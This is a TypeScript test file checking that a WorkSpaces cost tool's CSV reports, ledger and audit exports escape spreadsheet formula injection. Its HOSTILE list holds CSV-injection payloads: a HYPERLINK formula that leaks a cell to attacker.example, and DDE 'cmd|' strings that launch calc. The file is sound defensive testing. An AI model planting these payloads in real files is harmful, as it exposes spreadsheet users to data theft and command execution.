import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { WorkspaceResult } from '../../../src/app/workspace-result.js';
import { formatAuditRecords } from '../../../src/audit/audit-format.js';
import { EventAuditRecord } from '../../../src/audit/audit-record.js';
import { eventBridgeEvent } from '../../../src/audit/event-bridge-event.js';
import { normalizeAuditMessage } from '../../../src/audit/normalize-audit-message.js';
import { costFigures, money } from '../../../src/billing/index.js';
import { cellsToCsv, parseCsvRecords, spreadsheetSafe, unescapeFormula } from '../../../src/report/csv.js';
import { formatLedger } from '../../../src/report/ledger-format.js';
import { loadMonthReports } from '../../../src/report/load-month-reports.js';
import { reportKeys } from '../../../src/report/keys.js';
import { StoredReports } from '../../../src/report/stored-reports.js';
import { ledgerEntry } from '../app/ledger/ledger-fixtures.js';
import { message } from '../../helpers/audit/audit-messages.js';
import { workspace } from '../../helpers/in-memory-fleet.js';
import { MemoryStore } from '../../helpers/memory-store.js';

/** What a spreadsheet runs as a formula (OWASP "CSV Injection"). */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

describe('Function: spreadsheetSafe', () => {
  it.each(HOSTILE)('puts an apostrophe before %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });

  it.each(['-1234.56', '-0.99', '1234.56', '0', 'alice', "O'Brien", '{"CostCenter":"42"}', ''])(
    'leaves %j as it is (a negative amount stays a number)',
    (cell) => {
      expect(spreadsheetSafe(cell)).toBe(cell);
    },
  );

  it('is undone exactly by unescapeFormula, apostrophes included, and never leaves a formula start', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1', '.', ' ') }),
        (cell) => {
          const safe = spreadsheetSafe(cell);
          expect(unescapeFormula(safe)).toBe(cell);
          const numeric = /^-?\d+(\.\d+)?$/.test(cell);
          expect(numeric || !/^[=+\-@\t\r]/.test(safe)).toBe(true);
        },
      ),
    );
  });

  it('survives RFC 4180 quoting: a formula with a CR is escaped and quoted, and reads back raw', () => {
    const csv = cellsToCsv(['user_name', 'savings'], [['\r=1+1', '-12.50']]);
    expect(csv).toBe('user_name,savings\r\n"\'\r=1+1",-12.50\r\n');
    expect(parseCsvRecords(csv)[0]!.record).toEqual({ user_name: '\r=1+1', savings: '-12.50' });
  });
});

function hostileResult(userName: string, index: number): WorkspaceResult {
  const prices = {
    currency: 'USD',
    alwaysOnMonthly: money('12500'),
    autoStopMonthlyFee: money('210'),
    autoStopHourly: money('33.5'),
  };
  const asOf = new Date('2026-11-28T00:00:00Z');
  return {
    workspace: workspace({ workspaceId: `ws-${index}`, userName, computerName: '=cmd' }),
    tags: { Owner: '@attacker' },
    idleTimeoutMinutes: 60,
    billableHours: 300,
    threshold: { hours: 85, source: 'override' },
    decision: { action: 'TO_ALWAYS_ON', reason: 'OVER_THRESHOLD' },
    outcome: 'DRY_RUN',
    newRunningMode: 'AUTO_STOP',
    cost: {
      prices,
      source: 'file',
      figures: costFigures({
        prices,
        runningMode: 'AUTO_STOP',
        billableHours: 300,
        action: 'TO_ALWAYS_ON',
        asOf,
      }),
    },
  };
}

describe('Every CSV wco writes is spreadsheet-safe', () => {
  it('the daily report escapes user and computer names, keeps negative amounts numbers, and reads back raw', async () => {
    // Arrange
    const store = new MemoryStore();
    const asOf = new Date('2026-11-28T00:00:00Z');

    // Act
    const reports = new StoredReports(store);
    const results = HOSTILE.map(hostileResult);
    const { account, region, directoryId } = results[0]!.workspace;
    const rows = reports.directory({ account, region, directoryId }, { asOf });
    for (const result of results) rows.add(result);
    await reports.writeAggregate({ asOf, monthEnd: false, parts: [await rows.finish(true)] });

    // Assert: as a spreadsheet reads the file
    const body = (await store.get(reportKeys.dailyAggregated(asOf)))!;
    // Declared UTF-8, so that a browser or a spreadsheet opening it from S3 keeps the non-ASCII names.
    expect(store.objects.get(reportKeys.dailyAggregated(asOf))!.contentType).toBe('text/csv; charset=utf-8');
    const written = parse(body, { columns: true }) as Record<string, string>[];
    expect(written.map((row) => row.user_name).sort()).toEqual(HOSTILE.map((name) => `'${name}`).sort());
    expect(written.every((row) => row.computer_name === "'=cmd")).toBe(true);
    // An override threshold far below the break-even (366 h): the switch costs money, shown as negative numbers.
    // This month: 210 + 33.5 x 334 - (210 + 33.5 x 300 + 12,500 x 72 / 720); from December: 210 + 33.5 x 345 - 12,500
    expect([written[0]!.savings_this_month, written[0]!.savings_per_month_from_next_month]).toEqual([
      '-111.00',
      '-732.50',
    ]);
    // wco's own reader gets the raw names back (the monthly summary shows them as written)
    const month = await loadMonthReports(store, '2026-11');
    expect(month.snapshot.rows.map((row) => row.userName).sort()).toEqual([...HOSTILE].sort());
  });

  it('the ledger CSV escapes, its JSON keeps the raw value', () => {
    const entry = ledgerEntry({ userName: HOSTILE[0]!, status: 'FAILED', error: '=cmd|calc' });
    const [row] = parse(formatLedger('2026-11', [entry], 'csv'), { columns: true }) as Record<
      string,
      string
    >[];
    expect([row!.user_name, row!.error]).toEqual([`'${HOSTILE[0]}`, "'=cmd|calc"]);
    expect(JSON.parse(formatLedger('2026-11', [entry], 'json'))[0].userName).toBe(HOSTILE[0]);
  });

  it('the audit CSV escapes what a client sent, its JSON and NDJSON keep the raw value', () => {
    const body = JSON.stringify(
      eventBridgeEvent({
        id: 'e-1',
        source: 'aws.workspaces',
        detailType: 'WorkSpaces Access',
        account: '111122223333',
        region: 'eu-west-1',
        time: new Date('2026-11-05T16:13:59Z'),
        detail: {
          clientIpAddress: '198.51.100.7',
          actionType: 'successfulLogin',
          workspacesClientProductName: '@SUM(1+1)',
          loginTime: '2026-11-05T16:13:59Z',
          clientPlatform: '=HYPERLINK("http://x")',
          directoryId: 'd-9067abcdef',
          clientVersion: '+5.22',
          workspaceId: 'ws-abc12345',
        },
      }),
    );
    const record = EventAuditRecord.parse(normalizeAuditMessage(message('m-1', body)));
    const [row] = parse(formatAuditRecords([record], 'csv'), { columns: true }) as Record<string, string>[];
    expect([row!.client_platform, row!.client_product, row!.client_version]).toEqual([
      '\'=HYPERLINK("http://x")',
      "'@SUM(1+1)",
      "'+5.22",
    ]);
    expect(JSON.parse(formatAuditRecords([record], 'json'))[0].clientPlatform).toBe('=HYPERLINK("http://x")');
    expect(JSON.parse(JSON.stringify(record)).clientPlatform).toBe('=HYPERLINK("http://x")');
  });
});
